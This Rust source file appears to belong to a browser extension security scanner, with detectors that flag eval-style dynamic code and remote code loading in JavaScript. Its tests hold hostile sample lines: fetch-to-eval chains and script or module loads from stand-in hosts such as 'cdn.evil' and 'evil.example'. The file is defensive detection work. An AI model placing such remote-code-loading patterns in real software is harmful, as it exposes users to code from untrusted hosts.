//! Dynamic code execution and remote code fetching.

use std::collections::HashSet;
use std::ops::Range;

use super::tokenizer::{Token, TokenKind, TokenStream};
use super::walk::{self, called, global_call, is_member, match_close, member_path_ending_at, split_args, Code};
use crate::finding::{Category, Evidence, Severity, SignalFinding};
use crate::util;

const TIMER_FNS: &[&str] = &["setTimeout", "setInterval", "setImmediate", "execScript"];

fn evidence(ts: &TokenStream, t: &Token) -> Evidence {
    Evidence::at(&ts.source_path, t.offset, t.line)
}

fn snippet(code: &Code, range: Range<usize>) -> String {
    let mut s: String = code[range].iter().map(|t| t.text.as_str()).collect::<Vec<_>>().join("");
    if s.len() > 120 {
        let cut = (0..=120).rev().find(|&i| s.is_char_boundary(i)).unwrap_or(0);
        s.truncate(cut);
        s.push('…');
    }
    s
}

/// Flags string-to-code constructs. Comments never match.
pub fn detect_dynamic_code(ts: &TokenStream, manifest_version: u8) -> Vec<SignalFinding> {
    let code = ts.code();
    let severity = if manifest_version >= 3 { Severity::High } else { Severity::Medium };
    let mut out = Vec::new();
    let mut emit = |i: usize, what: &str, code: &Code| {
        let end = match_close(code, i + 1).map(|c| c + 1).unwrap_or(code.len().min(i + 4));
        let start = if i > 0 && code[i - 1].is_ident("new") { i - 1 } else { i };
        out.push(SignalFinding::new(
            "DYNAMIC_CODE",
            Category::Static,
            severity,
            evidence(ts, code[start]).with_value(snippet(code, start..end)),
            format!("{what} executes code built from a string"),
        ));
    };
    for i in 0..code.len() {
        let t = code[i];
        if t.kind != TokenKind::Identifier {
            continue;
        }
        match t.text.as_str() {
            "eval" if global_call(&code, i) => emit(i, "eval()", &code),
            "Function" if called(&code, i) && !is_member(&code, i) => emit(i, "Function constructor", &code),
            name if TIMER_FNS.contains(&name) && global_call(&code, i) => {
                if code.get(i + 2).is_some_and(|a| a.is_string_like()) {
                    emit(i, &format!("{name}() with a string argument"), &code);
                }
            }
            "write" | "writeln" if called(&code, i) && member_path_ending_at(&code, i) == ["document", t.text.as_str()] => {
                let Some(close) = match_close(&code, i + 1) else { continue };
                let writes_script = code[i + 2..close].iter().any(|a| {
                    a.is_string_like()
                        && a.literal_body().is_some_and(|b| b.to_ascii_lowercase().contains("<script"))
                });
                if writes_script {
                    emit(i, "document.write of a script element", &code);
                }
            }
            _ => {}
        }
    }
    out
}

/// Tokens that make an expression carry remote response content.
fn is_source(code: &Code, range: Range<usize>, tainted: &HashSet<String>) -> bool {
    range.clone().any(|i| {
        let t = code[i];
        match t.kind {
            TokenKind::Identifier => {
                (t.text == "fetch" && called(code, i) && !is_member(code, i))
                    || (matches!(t.text.as_str(), "responseText" | "response") && is_member(code, i))
                    || (t.text == "text" && is_member(code, i) && called(code, i))
                    || (!is_member(code, i) && tainted.contains(&t.text))
            }
            _ => false,
        }
    })
}

/// Start index of the receiver expression for the member access at `dot`.
fn receiver_start(code: &Code, dot: usize) -> usize {
    let mut i = dot;
    while i > 0 {
        let p = code[i - 1];
        if p.is_punct(")") || p.is_punct("]") {
            match walk::match_open(code, i - 1) {
                Some(o) => i = o,
                None => break,
            }
        } else if matches!(p.kind, TokenKind::Identifier)
            || p.is_punct(".")
            || p.is_punct("?.")
            || p.is_ident("await")
            || p.is_ident("new")
            || p.is_ident("this")
        {
            i -= 1;
        } else {
            break;
        }
    }
    i
}

fn callback_params(code: &Code, open: usize) -> Vec<String> {
    let mut i = open + 1;
    if code.get(i).is_some_and(|t| t.is_ident("async")) {
        i += 1;
    }
    let Some(t) = code.get(i) else { return Vec::new() };
    if t.kind == TokenKind::Identifier && code.get(i + 1).is_some_and(|a| a.is_punct("=>")) {
        return vec![t.text.clone()];
    }
    let params_open = if t.is_punct("(") {
        i
    } else if t.is_ident("function") {
        let mut j = i + 1;
        if code.get(j).is_some_and(|n| n.kind == TokenKind::Identifier) {
            j += 1;
        }
        j
    } else {
        return Vec::new();
    };
    let Some(close) = match_close(code, params_open) else { return Vec::new() };
    code[params_open + 1..close]
        .iter()
        .filter(|p| p.kind == TokenKind::Identifier)
        .map(|p| p.text.clone())
        .collect()
}

fn tainted_identifiers(code: &Code) -> HashSet<String> {
    let mut tainted = HashSet::new();
    for _ in 0..6 {
        let before = tainted.len();
        for i in 0..code.len() {
            let t = code[i];
            // NAME = <source>
            if t.kind == TokenKind::Identifier && !is_member(code, i) && code.get(i + 1).is_some_and(|e| e.is_punct("=")) {
                let end = walk::expr_end(code, i + 2);
                if is_source(code, i + 2..end, &tainted) {
                    tainted.insert(t.text.clone());
                }
            }
            // <source>.then(param => ...)
            if t.is_ident("then") && is_member(code, i) && called(code, i) {
                let start = receiver_start(code, i - 1);
                if is_source(code, start..i - 1, &tainted) {
                    tainted.extend(callback_params(code, i + 1));
                }
            }
        }
        if tainted.len() == before {
            break;
        }
    }
    tainted
}

fn is_remote_url(s: &str) -> bool {
    util::parse_http_url(s).is_some() || s.starts_with("//")
}

/// Flags remote content flowing into code sinks or script elements, and
/// dynamic `import()` / `importScripts()` of remote or computed URLs.
pub fn detect_remote_code_fetch(ts: &TokenStream) -> Vec<SignalFinding> {
    let code = ts.code();
    let tainted = tainted_identifiers(&code);
    let mut out = Vec::new();
    let mut push = |t: &Token, value: String, message: String| {
        out.push(SignalFinding::new(
            "REMOTE_CODE_EXEC",
            Category::Static,
            Severity::High,
            evidence(ts, t).with_value(value),
            message,
        ));
    };

    // Script elements created in this file, and whether each is injected.
    let mut script_vars = HashSet::new();
    for i in 0..code.len() {
        if code[i].is_ident("createElement") && called(&code, i) {
            let is_script = code
                .get(i + 2)
                .and_then(|a| a.string_value())
                .is_some_and(|v| v.eq_ignore_ascii_case("script"));
            if is_script {
                let stmt = receiver_start(&code, i.saturating_sub(1));
                if stmt >= 2 && code[stmt - 1].is_punct("=") && code[stmt - 2].kind == TokenKind::Identifier {
                    script_vars.insert(code[stmt - 2].text.clone());
                }
            }
        }
    }
    let injected: HashSet<String> = (0..code.len())
        .filter(|&i| {
            matches!(
                code[i].text.as_str(),
                "appendChild" | "append" | "prepend" | "insertBefore" | "replaceWith" | "after" | "before"
            ) && is_member(&code, i)
                && called(&code, i)
        })
        .filter_map(|i| code.get(i + 2).filter(|a| a.kind == TokenKind::Identifier).map(|a| a.text.clone()))
        .collect();

    for i in 0..code.len() {
        let t = code[i];
        match t.kind {
            TokenKind::Identifier if matches!(t.text.as_str(), "eval" | "Function") || TIMER_FNS.contains(&t.text.as_str()) => {
                if !(global_call(&code, i) || (t.text == "Function" && called(&code, i) && !is_member(&code, i))) {
                    continue;
                }
                let Some(close) = match_close(&code, i + 1) else { continue };
                let args = split_args(&code, i + 1, close);
                let checked: Vec<Range<usize>> = if TIMER_FNS.contains(&t.text.as_str()) {
                    args.into_iter().take(1).collect()
                } else {
                    args
                };
                if checked.into_iter().any(|r| is_source(&code, r, &tainted)) {
                    push(
                        t,
                        snippet(&code, i..close + 1),
                        format!("fetched content reaches {}()", t.text),
                    );
                }
            }
            TokenKind::Identifier if script_vars.contains(&t.text) && !is_member(&code, i) => {
                // s.src = ..., s.text/textContent/innerHTML = ..., s.setAttribute("src", ...)
                if !code.get(i + 1).is_some_and(|d| d.is_punct(".")) {
                    continue;
                }
                let Some(prop) = code.get(i + 2) else { continue };
                let injected_here = injected.contains(&t.text);
                if !injected_here {
                    continue;
                }
                if code.get(i + 3).is_some_and(|e| e.is_punct("=")) {
                    let end = walk::expr_end(&code, i + 4);
                    let rhs = i + 4..end;
                    let hit = match prop.text.as_str() {
                        "src" => {
                            let remote_literal = code
                                .get(i + 4)
                                .and_then(|v| v.string_value())
                                .is_some_and(|v| is_remote_url(&v));
                            remote_literal || is_source(&code, rhs.clone(), &tainted)
                        }
                        "text" | "textContent" | "innerHTML" | "innerText" => is_source(&code, rhs.clone(), &tainted),
                        _ => false,
                    };
                    if hit {
                        push(
                            t,
                            snippet(&code, i..end),
                            "remote script injected through a created <script> element".into(),
                        );
                    }
                } else if prop.is_ident("setAttribute") && called(&code, i + 2) {
                    let Some(close) = match_close(&code, i + 3) else { continue };
                    let args = split_args(&code, i + 3, close);
                    if args.len() == 2
                        && code[args[0].start].string_value().as_deref() == Some("src")
                        && code[args[1].start].string_value().is_some_and(|v| is_remote_url(&v))
                    {
                        push(
                            t,
                            snippet(&code, i..close + 1),
                            "remote script injected through a created <script> element".into(),
                        );
                    }
                }
            }
            TokenKind::Keyword if t.text == "import" && called(&code, i) => {
                let Some(close) = match_close(&code, i + 1) else { continue };
                let literal = if close == i + 3 { code[i + 2].string_value() } else { None };
                match literal {
                    Some(v) if !is_remote_url(&v) => {}
                    Some(v) => push(t, v, "dynamic import of a remote module".into()),
                    None => push(
                        t,
                        snippet(&code, i..close + 1),
                        "dynamic import of a computed module specifier".into(),
                    ),
                }
            }
            TokenKind::Identifier if t.text == "importScripts" && global_call(&code, i) => {
                let Some(close) = match_close(&code, i + 1) else { continue };
                for r in split_args(&code, i + 1, close) {
                    let remote = code[r.start].string_value().is_some_and(|v| is_remote_url(&v));
                    if remote || is_source(&code, r, &tainted) {
                        push(t, snippet(&code, i..close + 1), "importScripts() of a remote script".into());
                        break;
                    }
                }
            }
            _ => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::tokenizer::tokenize_js;
    use super::*;

    fn dyn_ids(src: &str, mv: u8) -> Vec<(String, Severity)> {
        detect_dynamic_code(&tokenize_js(src.as_bytes(), "bg.js"), mv)
            .into_iter()
            .map(|f| (f.rule_id, f.severity))
            .collect()
    }

    fn remote(src: &str) -> usize {
        detect_remote_code_fetch(&tokenize_js(src.as_bytes(), "bg.js")).len()
    }

    #[test]
    fn eval_under_mv3_is_high() {
        let f = dyn_ids(r#"eval("console.log('Hello World')")"#, 3);
        assert_eq!(f, vec![("DYNAMIC_CODE".to_string(), Severity::High)]);
        let f = dyn_ids(r#"eval("console.log('Hello World')")"#, 2);
        assert_eq!(f[0].1, Severity::Medium);
    }

    #[test]
    fn member_eval_without_call_is_ignored() {
        assert!(dyn_ids("var f = obj.eval; obj.eval(x);", 3).is_empty());
        assert_eq!(dyn_ids("window.eval(x)", 3).len(), 1);
    }

    #[test]
    fn function_constructor() {
        // Pattern list: eval-call, Function-call, string timer, document.write
        // of <script>. Only the Function-call pattern applies here.
        assert_eq!(dyn_ids(r#"new Function("a","return a")()"#, 3).len(), 1);
        assert!(dyn_ids("Function.prototype.call.bind(x)", 3).is_empty());
    }

    #[test]
    fn timers_and_document_write() {
        assert_eq!(dyn_ids(r#"setTimeout("alert(1)", 10)"#, 3).len(), 1);
        assert!(dyn_ids("setTimeout(() => go(), 10)", 3).is_empty());
        assert_eq!(dyn_ids(r#"document.write("<script src=x.js></" + "script>")"#, 3).len(), 1);
        assert!(dyn_ids(r#"document.write("<p>hi</p>")"#, 3).is_empty());
    }

    #[test]
    fn comments_never_match() {
        assert!(dyn_ids("// eval(x)\n/* new Function('a') */", 3).is_empty());
    }

    #[test]
    fn fetch_text_into_eval() {
        assert_eq!(remote("fetch(u).then(r=>r.text()).then(t=>eval(t))"), 1);
        assert_eq!(remote("fetch(u).then(r=>r.json()).then(render)"), 0);
    }

    #[test]
    fn await_chain_into_function_constructor() {
        let src = "async function go(){ const r = await fetch(u); const body = await r.text(); new Function(body)(); }";
        assert_eq!(remote(src), 1);
        let benign = "async function go(){ const r = await fetch(u); const body = await r.json(); render(body); }";
        assert_eq!(remote(benign), 0);
    }

    #[test]
    fn xhr_response_text() {
        assert_eq!(remote("x.onload = function(){ eval(this.responseText) }"), 1);
    }

    #[test]
    fn created_script_element_with_remote_src() {
        let src = r#"var s = document.createElement("script"); s.src="https://cdn.evil/x.js";document.head.appendChild(s)"#;
        assert_eq!(remote(src), 1);
        let local = r#"var s = document.createElement("script"); s.src=chrome.runtime.getURL("x.js");document.head.appendChild(s)"#;
        assert_eq!(remote(local), 0);
        let not_injected = r#"var s = document.createElement("script"); s.src="https://cdn.evil/x.js";"#;
        assert_eq!(remote(not_injected), 0);
    }

    #[test]
    fn dynamic_import() {
        assert_eq!(remote(r#"import("./local.js")"#), 0);
        assert_eq!(remote(r#"import("https://evil.example/m.js")"#), 1);
        assert_eq!(remote("import(`${base}/m.js`)"), 1);
        assert_eq!(remote(r#"importScripts("https://evil.example/a.js")"#), 1);
        assert_eq!(remote(r#"importScripts("lib.js")"#), 0);
    }
}
